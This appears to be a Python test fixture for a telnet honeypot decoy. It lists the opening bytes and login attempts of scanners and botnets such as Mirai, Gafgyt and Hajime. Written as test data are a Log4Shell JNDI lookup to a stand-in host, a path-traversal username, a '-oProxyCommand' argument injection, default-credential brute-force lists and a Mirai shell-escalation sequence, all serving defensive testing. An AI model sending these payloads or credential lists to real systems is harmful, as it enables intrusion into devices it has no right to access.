# SPDX-License-Identifier: MIT
"""What loaders, botnets and scanners of today send to a telnetd, written before the decoy was looked at."""

from __future__ import annotations

from tests.decnet_decoys.services.dialogues import inetutils
from tests.decnet_decoys.services.dialogues.play import END, Kind, Step

_IAC, _WILL, _WONT, _DO, _DONT, _SB, _SE = 255, 251, 252, 253, 254, 250, 240


def _options(command: int, *numbers: int) -> bytes:
    return b"".join(bytes((_IAC, command, number)) for number in numbers)


def _about(option: int, said: bytes) -> bytes:
    return bytes((_IAC, _SB, option)) + said + bytes((_IAC, _SE))


_BRUTED = tuple(
    line + b"\r\n"
    for line in (
        b"guest",
        b"12345",
        b"service",
        b"service",
        b"supervisor",
        b"supervisor",
        b"telnetadmin",
        b"telnetadmin",
    )
)

_OPENINGS: dict[str, tuple[Step, ...]] = {
    "masscan": (b"\xff\xfd\x25\xff\xfb\x01\xff\xfb\x03",),
    "Shodan": (b"\xff\xfe\x01\xff\xfe\x03\xff\xfc\x18\xff\xfc\x1f\r\n",),
    "Gafgyt": (b"\xff\xfb\x1f\xff\xfa\x1f\0\x50\0\x18\xff\xf0", b"support\r", b"support\r"),
    "Hajime": (_options(_DONT, 1) + _options(_WONT, 31, 32), b"support\r\n"),
    "ADB": (b"CNXN\0\0\0\1\0\0\x10\0\7\0\0\0\x32\2\0\0\xbc\xb1\xa7\xb1host::\0\r\n",),
    "Log4Shell": (b"${jndi:ldap://192.0.2.9/a}\r\n", b"x\r\n"),
    "an RDP cookie": (b"\x03\0\0\x2f\x2a\xe0\0\0\0\0\0Cookie: mstshash=Administr\r\n\x01\0\x08\0\3\0\0\0\r\n",),
    "a browser": (b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: y\r\n\r\n",),
    "SSH": (b"SSH-2.0-Go\r\n",),
    "MQTT": (b"\x10\x0c\x00\x04MQTT\x04\x02\x00\x3c\x00\x00\r\n",),
    "JDWP": (b"JDWP-Handshake\r\n",),
    "options one by one": (*(_options(_DO, n) for n in (1, 3, 5, 31)), b"support\r\n"),
}
_LOG_INS: dict[str, tuple[Step, ...]] = {
    "a list of accounts": _BRUTED,
    "a list of accounts, the client ends": (*_BRUTED[:3], END),
    "a name and a password by LF NUL": (b"support\n\0", b"x\n\0"),
    "a name twice in one segment": (b"support\r\nsupport\r\n", b"x\r\n"),
    "a Mirai that reads nothing": (b"support\r\n", b"support\r\nenable\r\nsystem\r\nshell\r\n"),
    "a name with a path": (b"../../etc/passwd\r\n", b"x\r\n"),
    "a name of an exploit": (b"-oProxyCommand=id\r\n", b"x\r\n"),
    "a name with an escape": (b"\x1b[2Jx\r\n", b"x\r\n"),
    "a name that is a number": (b"1234567890\r\n", b"x\r\n"),
    "an empty password": (b"support\r\n", b"\r\n", b"support\r\n"),
    "a password with blanks": (b"support\r\n", b" a b \r\n"),
    "a password of NUL and more": (b"support\r\n", b"\0\0ab\r\n"),
    "a password with a backspace": (b"support\r\n", b"abc\x08\x08x\r\n"),
    "a line of 4096 letters": (b"a" * 4096 + b"\r\n", b"x\r\n"),
    "an option within a name": (b"sup" + _options(_WILL, 31) + b"port\r\n", b"x\r\n"),
    "an option within a password": (b"support\r\n", b"x" + _options(_DONT, 1) + b"y\r\n"),
    "a terminal's type within a name": (b"su" + _about(24, b"\0xterm") + b"pport\r\n", b"x\r\n"),
    "are you there in a name": (b"su\xff\xf6pport\r\n", b"x\r\n"),
    "^R in a name": (b"sup\x12port\r\n", b"x\r\n"),
    "^L and a name": (b"\x0csupport\r\n", b"x\r\n"),
    "a form feed's end": (b"support\x0c\r\n", b"x\r\n"),
    "the client ends at once": (END,),
}

KIND = Kind(_OPENINGS | _LOG_INS, (), most=4)
INETUTILS = Kind(
    _OPENINGS | {name: (*inetutils.STARTED, *steps) for name, steps in _LOG_INS.items()}, inetutils.VARIES, most=6
)
